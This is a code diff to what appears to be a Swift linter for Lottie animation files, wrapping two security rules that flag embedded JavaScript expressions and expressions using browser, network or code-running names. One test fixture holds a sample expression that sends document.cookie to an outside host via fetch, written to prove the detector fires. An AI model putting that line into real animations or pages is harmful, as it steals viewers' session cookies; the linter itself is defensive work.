@@ -4,18 +4,19 @@ internal import PegbarLottie
 extension Rule {
   /// The file holds code.
   static let expressionCode = Rule(
-    "sec/expression", .note,
-    Words(
-      title: "The file holds code",
-      meaning: """
-        Expressions are JavaScript. lottie-web runs them in the page that shows the animation, \
-        with everything that the page may do.
-        """,
-      effect: "Whoever made the file can run code in the page or app that plays it.",
-      wayOut: """
-        Convert expressions with Animation > Keyframe Assistant > Convert Expression to Keyframes, \
-        or play files from others with the light version of lottie-web, which runs none.
-        """),
+    .rule(
+      "sec/expression", .note,
+      Words(
+        title: "The file holds code",
+        meaning: """
+          Expressions are JavaScript. lottie-web runs them in the page that shows the animation, \
+          with everything that the page may do.
+          """,
+        effect: "Whoever made the file can run code in the page or app that plays it.",
+        wayOut: """
+          Convert expressions with Animation > Keyframe Assistant > Convert Expression to Keyframes, \
+          or play files from others with the light version of lottie-web, which runs none.
+          """)),
     found: [.layer(#""ks": {"r": {"a": 0, "k": 0, "x": "var $bm_rt; $bm_rt = time * 90;"}}"#)],
     silent: [.layer(#""ks": {"r": {"a": 0, "k": 90}}"#)],
     check: .document { run in
@@ -30,15 +31,16 @@ extension Rule {
 
   /// An expression uses what no animation needs.
   static let expressionSuspicious = Rule(
-    "sec/expression-suspicious", .error,
-    Words(
-      title: "An expression does more than animate",
-      meaning: """
-        The expression uses a name that After Effects does not have, but browsers do: for the \
-        page, for the network, or to run text as code.
-        """,
-      effect: "It may read what the page shows and send it elsewhere.",
-      wayOut: "Do not play the file. Ask its author what the expression is for, or delete it."),
+    .rule(
+      "sec/expression-suspicious", .error,
+      Words(
+        title: "An expression does more than animate",
+        meaning: """
+          The expression uses a name that After Effects does not have, but browsers do: for the \
+          page, for the network, or to run text as code.
+          """,
+        effect: "It may read what the page shows and send it elsewhere.",
+        wayOut: "Do not play the file. Ask its author what the expression is for, or delete it.")),
     found: [
       .layer(
         #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
